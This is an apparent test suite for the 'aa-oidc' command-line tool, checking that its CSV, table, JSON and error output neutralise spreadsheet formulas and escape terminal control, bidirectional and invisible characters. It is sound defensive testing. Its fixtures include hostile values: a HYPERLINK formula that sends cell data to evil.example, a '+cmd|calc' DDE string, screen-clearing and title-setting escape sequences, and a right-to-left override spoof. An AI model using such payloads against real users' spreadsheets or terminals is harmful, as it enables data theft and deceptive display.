import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { openDatabase } from '../../src/db/connect.ts';
import { renderRows } from '../../src/cli/output.ts';
import { BIDI_CONTROL, INVISIBLE_CHARACTER } from '../../src/util/hidden-characters.ts';
import { cli as runCli, type CliResult } from '../helpers/cli.ts';
import { testConfig, testEnv } from '../helpers/config.ts';
import { createTestDatabase, type TestDatabase, testDatabaseKind } from '../helpers/database.ts';

/** Characters a spreadsheet reads as the start of a formula (OWASP "CSV injection"). */
const FORMULA_START = /^[=+\-@\t\r\0]/;
/** Control characters a terminal acts on; a line break is the output's own. */
// eslint-disable-next-line no-control-regex
const RAW_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/;
/** Bidirectional controls and invisible characters (not the joiners U+200C, U+200D, nor a flag's tags). */
const RAW_HIDDEN = new RegExp(`${BIDI_CONTROL.source}|${INVISIBLE_CHARACTER.source}`, 'u');
/** Scotland's flag: U+1F3F4, the tags `gbsct`, U+E007F. */
const SCOTLAND = '\u{1f3f4}\u{e0067}\u{e0062}\u{e0073}\u{e0063}\u{e0074}\u{e007f}';

/** The cells of an RFC 4180 document (quoted fields unquoted), line by line. */
function csvCells(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let index = 0; index < text.length; index += 1) {
    const char = text[index]!;
    if (quoted) {
      if (char === '"' && text[index + 1] === '"') {
        cell += '"';
        index += 1;
      } else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') {
      row.push(cell);
      cell = '';
    } else if (char === '\r' && text[index + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      index += 1;
    } else cell += char;
  }
  return rows;
}

/** The cells of `column` below the header. */
function column(text: string, header: string): string[] {
  const [headers, ...rows] = csvCells(text);
  const index = headers!.indexOf(header);
  assert.notEqual(index, -1, `no column ${header} in ${text}`);
  return rows.map((row) => row[index]!);
}

describe(`aa-oidc output: spreadsheet formulas and terminal control characters (${testDatabaseKind})`, () => {
  let database: TestDatabase;
  const password = 'Tr0ub4dor & 3 horses';
  const formulaApp = '=HYPERLINK("http://evil.example/?"&A1,"click")';
  // C1 controls pass the application name's check (it refuses C0 and DEL): CSI 2 J clears the
  // screen, OSC … ST sets the window title.
  const controlApp = 'Wiki\u009b2J\u009d0;pwned\u009c';
  const escGroup = 'Evil\u001b]0;pwned\u0007\u001b[2J';
  const auditNote = 'left\u001b[31m the corp\u009b0m';

  function cli(args: string[], stdin = ''): Promise<CliResult> {
    return runCli(args, testEnv(database), { stdin });
  }

  async function ok(args: string[], stdin = ''): Promise<string> {
    const result = await cli(args, stdin);
    assert.equal(result.code, 0, `aa-oidc ${args.join(' ')} failed: ${result.stderr}`);
    return result.stdout;
  }

  before(async () => {
    database = await createTestDatabase({ migrated: true });
    await ok(['state', 'create', '=1+1', '--priority=-5']);
    await ok(['group', 'create', '+cmd|calc']);
    await ok(
      ['user', 'create', '--state', '=1+1', '--group', '+cmd|calc', '--password-stdin', '--', '-2+3'],
      `${password}\n`,
    );
    await ok([
      'app',
      'create',
      '--name',
      formulaApp,
      '--client-id',
      'formula-app',
      '--redirect-uri',
      'https://formula.example.org/cb',
    ]);
    // A name the validation refuses, as Alliance Auth, an older release or a hand edit may leave it.
    const handle = openDatabase(testConfig(database).database);
    try {
      await handle.db
        .insertInto('auth_group')
        .values({ name: escGroup, name_key: escGroup.toLowerCase(), oidc_access: 0, created_at: Date.now() })
        .execute();
      const time = Date.now();
      await handle.db
        .insertInto('audit_event')
        .values({
          recorded_at: time,
          kind: 'token_revoked',
          user_id: null,
          client_id: 'formula-app',
          request_id: null,
          payload: JSON.stringify({
            time: new Date(time).toISOString(),
            kind: 'token_revoked',
            token_type: 'access_token',
            reason: 'user_revoked',
            note: auditNote,
          }),
        })
        .execute();
    } finally {
      await handle.close();
    }
  });
  after(() => database?.drop());

  it('quotes CSV cells a spreadsheet would run as formulas, in every listing, and leaves its own numbers alone', async () => {
    const states = await ok(['state', 'list', '--format', 'csv']);
    assert.deepEqual(column(states, 'name'), ["'=1+1"]);
    assert.deepEqual(column(states, 'priority'), ['-5'], 'a negative priority stays a number');
    assert.match(states, /^"'=1\+1",-5,/m);
    assert.deepEqual(column(await ok(['group', 'list', '--format', 'csv']), 'name').sort(), [
      "'+cmd|calc",
      'Evil\\x1b]0;pwned\\x07\\x1b[2J',
    ]);
    const users = await ok(['user', 'list', '--format', 'csv']);
    assert.deepEqual(column(users, 'username'), ["'-2+3"]);
    assert.deepEqual(column(users, 'state'), ["'=1+1"]);
    assert.deepEqual(column(users, 'groups'), ["'+cmd|calc"]);
    const apps = await ok(['app', 'list', '--format', 'csv']);
    assert.deepEqual(column(apps, 'name'), [`'${formulaApp}`]);
    assert.match(apps, /,"'=HYPERLINK\(""http:\/\/evil\.example\/\?""&A1,""click""\)",/);
    assert.deepEqual(column(await ok(['app', 'show', 'formula-app', '--format', 'csv']), 'name'), [
      `'${formulaApp}`,
    ]);
    const policy = await ok(['policy', 'show', 'formula-app', '--username=-2+3', '--format', 'csv']);
    assert.deepEqual(column(policy, 'username'), ["'-2+3"]);
    assert.deepEqual(column(policy, 'user_state'), ["'=1+1"]);
    const bcl = await cli(['bcl', 'test', 'formula-app', '--format', 'csv']);
    assert.equal(bcl.code, 1, 'the application has no back-channel logout URI');
    assert.deepEqual(column(bcl.stdout, 'name'), [`'${formulaApp}`]);
    const audit = await ok(['audit', 'list', '--format', 'csv']);
    assert.ok(column(audit, 'user_id').every((cell) => cell === '' || /^\d+$/.test(cell)));

    for (const [name, text] of Object.entries({ states, users, apps, policy, bcl: bcl.stdout, audit })) {
      for (const cell of csvCells(text).flat())
        assert.ok(!FORMULA_START.test(cell) || /^-?\d+$/.test(cell), `${name}: ${JSON.stringify(cell)}`);
    }

    // TAB, CR and NUL cannot get into a name through aa-oidc, but a row from elsewhere may hold one.
    const rows = ['\tcmd', '\rcmd', '\0cmd', '@SUM(1)', 'plain', '-'];
    assert.equal(
      renderRows(rows, [{ header: 'name', value: (row) => row }], 'csv', (row) => row),
      'name\r\n"\'\\tcmd"\r\n"\'\\rcmd"\r\n"\'\\x00cmd"\r\n"\'@SUM(1)"\r\nplain\r\n"\'-"\r\n',
    );
  });

  it('shows control characters from the database escaped in tables, lines, CSV and errors, and keeps JSON exact', async () => {
    const handle = openDatabase(testConfig(database).database);
    try {
      const user = await handle.db
        .selectFrom('app_user')
        .select('id')
        .where('username', '=', '-2+3')
        .executeTakeFirstOrThrow();
      const group = await handle.db
        .selectFrom('auth_group')
        .select('id')
        .where('name', '=', escGroup)
        .executeTakeFirstOrThrow();
      await handle.db.insertInto('user_group').values({ user_id: user.id, group_id: group.id }).execute();
    } finally {
      await handle.close();
    }
    // Application names refuse control characters when written; one written by another tool (or
    // before C1 characters were refused) is read as it is.
    const create = (name: string) => [
      'app',
      'create',
      '--name',
      name,
      '--client-id',
      'control-app',
      '--redirect-uri',
      'https://wiki.example.org/cb',
    ];
    const refused = await cli(create(controlApp));
    assert.equal(refused.code, 1);
    assert.match(refused.stderr, /name: must not contain U\+009B, a control character/);
    assert.doesNotMatch(refused.stderr, RAW_CONTROL);
    const created = await ok(create('Wiki'));
    const written = openDatabase(testConfig(database).database);
    try {
      await written.db
        .updateTable('application')
        .set({ name: controlApp })
        .where('client_id', '=', 'control-app')
        .execute();
    } finally {
      await written.close();
    }
    const outputs: Record<string, string> = {
      created,
      list: await ok(['app', 'list']),
      show: await ok(['app', 'show', 'control-app']),
      groups: await ok(['group', 'list']),
      groupsCsv: await ok(['group', 'list', '--format', 'csv']).then((text) => text.replaceAll('\r\n', '\n')),
      appsCsv: await ok(['app', 'list', '--format', 'csv']).then((text) => text.replaceAll('\r\n', '\n')),
      audit: await ok(['audit', 'list']),
      auditCsv: await ok(['audit', 'list', '--format', 'csv']).then((text) => text.replaceAll('\r\n', '\n')),
      bcl: (await cli(['bcl', 'test', 'control-app'])).stdout,
      user: await ok(['user', 'show', '--', '-2+3']),
      deleteDryRun: await ok(['user', 'delete', '--dry-run', '--', '-2+3']),
      policy: await ok(['policy', 'show', 'control-app', '--username=-2+3']),
    };
    const escapedApp = 'Wiki\\u009b2J\\u009d0;pwned\\u009c';
    assert.match(created, /^created application "Wiki"$/m);
    assert.ok(outputs.list!.includes(escapedApp), outputs.list);
    assert.ok(outputs.show!.includes(escapedApp), outputs.show);
    assert.ok(outputs.appsCsv!.includes(escapedApp), outputs.appsCsv);
    assert.ok(outputs.bcl!.includes(escapedApp), outputs.bcl);
    assert.ok(outputs.audit!.includes('(left\\x1b[31m the corp\\u009b0m)'), outputs.audit);
    assert.ok(outputs.groups!.includes('Evil\\x1b]0;pwned\\x07\\x1b[2J'), outputs.groups);
    assert.ok(outputs.groupsCsv!.includes('Evil\\x1b]0;pwned\\x07\\x1b[2J'), outputs.groupsCsv);
    for (const name of ['user', 'deleteDryRun', 'policy'])
      assert.ok(outputs[name]!.includes('Evil\\x1b]0;pwned\\x07\\x1b[2J'), outputs[name]);
    for (const [name, text] of Object.entries(outputs))
      assert.doesNotMatch(text, RAW_CONTROL, `${name}: ${JSON.stringify(text)}`);

    // JSON: the same value, every control character a JSON escape.
    const json = await ok(['app', 'show', 'control-app', '--format', 'json']);
    assert.doesNotMatch(json, RAW_CONTROL);
    assert.equal((JSON.parse(json) as { name: string }).name, controlApp);
    const groupsJson = await ok(['group', 'list', '--format', 'json']);
    assert.doesNotMatch(groupsJson, RAW_CONTROL);
    assert.ok((JSON.parse(groupsJson) as Array<{ name: string }>).some((group) => group.name === escGroup));

    // A failure that names what it was given.
    const missing = await cli(['app', 'show', 'nope\u009b2J']);
    assert.equal(missing.code, 1);
    assert.match(missing.stderr, /nope\\u009b2J/);
    assert.doesNotMatch(missing.stderr, RAW_CONTROL);
  });

  it('shows the line and paragraph separators (U+2028, U+2029) of a name escaped, and as JSON escapes in JSON', async () => {
    // Refused in a name given now, but a name written before (or by Alliance Auth) may hold one, and
    // a log reader or an editor takes either for a line break: the name would start a line of its own.
    const app = 'Wiki\u2028status: ok\u2029done';
    const group = 'Ops\u2028team';
    const escapedApp = 'Wiki\\u2028status: ok\\u2029done';
    await ok([
      'app',
      'create',
      '--name',
      'Wiki',
      '--client-id',
      'separator-app',
      '--redirect-uri',
      'https://separator.example.org/cb',
    ]);
    const handle = openDatabase(testConfig(database).database);
    try {
      await handle.db
        .updateTable('application')
        .set({ name: app })
        .where('client_id', '=', 'separator-app')
        .execute();
      await handle.db
        .insertInto('auth_group')
        .values({ name: group, name_key: group.toLowerCase(), oidc_access: 0, created_at: Date.now() })
        .execute();
    } finally {
      await handle.close();
    }
    const outputs: Record<string, string> = {
      updated: await ok([
        'app',
        'update',
        'separator-app',
        '--post-logout-redirect-uri',
        'https://separator.example.org/bye',
      ]),
      list: await ok(['app', 'list']),
      show: await ok(['app', 'show', 'separator-app']),
      appsCsv: await ok(['app', 'list', '--format', 'csv']),
      groups: await ok(['group', 'list']),
      groupsCsv: await ok(['group', 'list', '--format', 'csv']),
    };
    // Kept unchanged, a name given before stays: the application is still edited.
    assert.match(outputs.updated!, /^updated application separator-app: post_logout_redirect_uris$/m);
    for (const name of ['list', 'show', 'appsCsv'])
      assert.ok(outputs[name]!.includes(escapedApp), `${name}: ${outputs[name]}`);
    for (const name of ['groups', 'groupsCsv'])
      assert.ok(outputs[name]!.includes('Ops\\u2028team'), `${name}: ${outputs[name]}`);

    const appJson = await ok(['app', 'show', 'separator-app', '--format', 'json']);
    assert.ok(appJson.includes(`"name": "${escapedApp}"`), appJson);
    assert.equal((JSON.parse(appJson) as { name: string }).name, app);
    const appsJson = await ok(['app', 'list', '--format', 'json']);
    assert.ok((JSON.parse(appsJson) as Array<{ name: string }>).some((row) => row.name === app));
    const groupsJson = await ok(['group', 'list', '--format', 'json']);
    assert.ok((JSON.parse(groupsJson) as Array<{ name: string }>).some((row) => row.name === group));
    for (const [name, text] of Object.entries({ ...outputs, appJson, appsJson, groupsJson }))
      assert.doesNotMatch(text, /[\u2028\u2029]/, `${name}: ${JSON.stringify(text)}`);
  });

  it('refuses bidirectional controls and zero-width characters in the names it gives, and shows escaped those it reads', async () => {
    // U+202E turns the rest of the line around: this group shows as "Admins team" … in reverse.
    const bidiGroup = 'Corp \u202emaet snimdA\u202c';
    const handle = openDatabase(testConfig(database).database);
    try {
      // As Alliance Auth (or an older release) leaves it: read and shown, never refused.
      await handle.db
        .insertInto('auth_group')
        .values({
          name: bidiGroup,
          name_key: bidiGroup.toLowerCase(),
          oidc_access: 0,
          created_at: Date.now(),
        })
        .execute();
    } finally {
      await handle.close();
    }
    const refusals: Array<[string[], RegExp]> = [
      [
        ['state', 'create', 'Blue\u202e', '--priority', '1'],
        /invalid state name "Blue\\u202e": it contains U\+202E, a bidirectional control character/,
      ],
      [
        ['group', 'create', 'Ops\u2067x'],
        /invalid group name "Ops\\u2067x": it contains U\+2067, a bidirectional control character/,
      ],
      [
        ['group', 'create', 'Di\u200brectors'],
        /invalid group name "Di\\u200brectors": it contains U\+200B, an invisible character/,
      ],
      // The soft hyphen and the Hangul fillers show nothing either (`Admins`, `Blue`, `Wiki`).
      [
        ['group', 'create', 'Ad\u00admins'],
        /invalid group name "Ad\\u00admins": it contains U\+00AD, an invisible character/,
      ],
      [
        ['state', 'create', 'Blue\u3164', '--priority', '1'],
        /invalid state name "Blue\\u3164": it contains U\+3164, an invisible character/,
      ],
      [
        ['app', 'create', '--name', 'Wiki\uffa0', '--redirect-uri', 'https://wiki.example.org/cb'],
        /name: must not contain U\+FFA0, an invisible character/,
      ],
      // Nor do the braille blank, the grapheme joiner, a shorthand format control, a tag outside a flag.
      [
        ['group', 'create', '\u2800\u2800'],
        /invalid group name "\\u2800\\u2800": it contains U\+2800, an invisible character/,
      ],
      [
        ['state', 'create', 'Bl\u034fue', '--priority', '1'],
        /invalid state name "Bl\\u034fue": it contains U\+034F, an invisible character/,
      ],
      [
        ['app', 'create', '--name', 'Wiki\u{1bca0}', '--redirect-uri', 'https://wiki.example.org/cb'],
        /name: must not contain U\+1BCA0, an invisible character/,
      ],
      [
        ['group', 'create', 'Ops\u{e0041}'],
        /invalid group name "Ops\\udb40\\udc41": it contains U\+E0041, an invisible character/,
      ],
      [
        ['group', 'rename', bidiGroup, 'Corp \u200fteam'],
        /invalid group name "Corp \\u200fteam": it contains U\+200F, a bidirectional control character/,
      ],
      [
        ['app', 'create', '--name', 'Wiki\u2066', '--redirect-uri', 'https://wiki.example.org/cb'],
        /name: must not contain U\+2066, a bidirectional control character/,
      ],
      // The line and paragraph separators and the control characters (C0, DEL, C1), each named.
      [
        ['app', 'create', '--name', 'Wiki\u2028x', '--redirect-uri', 'https://wiki.example.org/cb'],
        /name: must not contain U\+2028, a line separator/,
      ],
      [
        ['app', 'update', 'formula-app', '--name', 'Wiki\u2029x'],
        /name: must not contain U\+2029, a paragraph separator/,
      ],
      [
        ['app', 'create', '--name', 'Wiki\u0085x', '--redirect-uri', 'https://wiki.example.org/cb'],
        /name: must not contain U\+0085, a control character/,
      ],
      [
        ['state', 'create', 'Blue\u2028x', '--priority', '1'],
        /invalid state name "Blue\\u2028x": it contains U\+2028, a line separator/,
      ],
      [
        ['group', 'create', 'Ops\u2029x'],
        /invalid group name "Ops\\u2029x": it contains U\+2029, a paragraph separator/,
      ],
      [
        ['group', 'create', 'Ops\u009bx'],
        /invalid group name "Ops\\u009bx": it contains U\+009B, a control character/,
      ],
      [
        ['group', 'rename', bidiGroup, 'Corp\u007fteam'],
        /invalid group name "Corp\\u007fteam": it contains U\+007F, a control character/,
      ],
    ];
    for (const [args, message] of refusals) {
      const refused = await cli(args);
      assert.equal(refused.code, 1, args.join(' '));
      assert.match(refused.stderr, message);
      assert.doesNotMatch(refused.stderr, RAW_HIDDEN);
      assert.doesNotMatch(refused.stderr, RAW_CONTROL);
      assert.doesNotMatch(refused.stderr, /[\u2028\u2029]/);
    }
    // Zero-width joiner and non-joiner stay: emoji sequences and several scripts need them.
    await ok(['group', 'create', '\u{1F469}\u200d\u{1F4BB} Devs']);
    await ok(['group', 'create', 'می\u200cخواهم']);
    // So do the tags of a flag, which draw it.
    await ok(['group', 'create', `Highlanders ${SCOTLAND}`]);

    const table = await ok(['group', 'list']);
    const csv = await ok(['group', 'list', '--format', 'csv']);
    const json = await ok(['group', 'list', '--format', 'json']);
    for (const text of [table, csv, json]) {
      assert.ok(text.includes('Corp \\u202emaet snimdA\\u202c'), text);
      assert.doesNotMatch(text, RAW_HIDDEN);
      assert.ok(text.includes('\u{1F469}\u200d\u{1F4BB} Devs'), text);
      assert.ok(text.includes(`Highlanders ${SCOTLAND}`), text);
    }
    assert.ok((JSON.parse(json) as Array<{ name: string }>).some((group) => group.name === bidiGroup));
    // A name that only finds one (the old name of a rename) is not refused.
    await ok(['group', 'rename', bidiGroup, 'Corp team']);
  });

  it('aligns table columns by the columns a terminal draws: wide and full-width names, combining marks, characters beyond the BMP', async () => {
    // Each name with the columns it takes in a terminal, counted by hand.
    const names: Array<[string, number]> = [
      ['漢字グループ', 12],
      ['Ｆｕｌｌ', 8],
      ['한국 길드', 9],
      ['Zoe\u0308 Corp', 8],
      ['\u{1d400}\u{1d401} Ops', 6],
      ['\u{1f680} Launch', 9],
    ];
    for (const [name] of names) await ok(['group', 'create', name]);
    const [header, ...lines] = (await ok(['group', 'list'])).split('\n');
    // The header is ASCII: its offset is the column where the second column starts.
    const start = header!.indexOf('OIDC ACCESS');
    assert.ok(start > 0, header);
    for (const [name, width] of names) {
      const line = lines.find((text) => text.startsWith(`${name} `));
      assert.equal(line, `${name}${' '.repeat(start - width)}false        0`, name);
    }
  });
});

describe(`aa-oidc CSV: lists of names that hold commas and quotes (${testDatabaseKind})`, () => {
  let database: TestDatabase;
  const groups = ['Logistics, Hauling', 'Say "hi"', 'Pilots'];

  async function ok(args: string[], stdin = ''): Promise<string> {
    const result = await runCli(args, testEnv(database), { stdin });
    assert.equal(result.code, 0, `aa-oidc ${args.join(' ')} failed: ${result.stderr}`);
    return result.stdout;
  }

  before(async () => {
    database = await createTestDatabase({ migrated: true });
    await ok(['state', 'create', 'Member, Full', '--priority', '10']);
    for (const group of groups) await ok(['group', 'create', group]);
    await ok(
      ['user', 'create', 'alice', ...groups.flatMap((group) => ['--group', group]), '--password-stdin'],
      'correct horse battery\n',
    );
    await ok([
      'app',
      'create',
      '--name',
      'Wiki',
      '--client-id',
      'wiki',
      '--redirect-uri',
      'https://wiki.example.org/cb',
      '--state',
      'Member, Full',
      ...groups.flatMap((group) => ['--group', group]),
    ]);
  });
  after(() => database?.drop());

  /** The names in one CSV cell that holds a list: a CSV record of its own. */
  const names = (cell: string) => csvCells(`${cell}\r\n`)[0];

  it('writes a list cell as a CSV record of its own, so that a name with a comma stays one name', async () => {
    const sorted = [...groups].sort();
    const [userGroups] = column(await ok(['user', 'list', '--format', 'csv']), 'groups');
    assert.deepEqual(names(userGroups!)?.sort(), sorted);
    const apps = await ok(['app', 'list', '--format', 'csv']);
    assert.deepEqual(names(column(apps, 'groups')[0]!)?.sort(), sorted);
    assert.deepEqual(names(column(apps, 'states')[0]!), ['Member, Full']);
    assert.deepEqual(
      names(column(await ok(['app', 'show', 'wiki', '--format', 'csv']), 'groups')[0]!)?.sort(),
      sorted,
    );
    const policy = await ok(['policy', 'show', 'wiki', '--username', 'alice', '--format', 'csv']);
    assert.deepEqual(names(column(policy, 'user_groups')[0]!)?.sort(), sorted);
    assert.deepEqual(names(column(policy, 'app_states')[0]!), ['Member, Full']);
  });
});
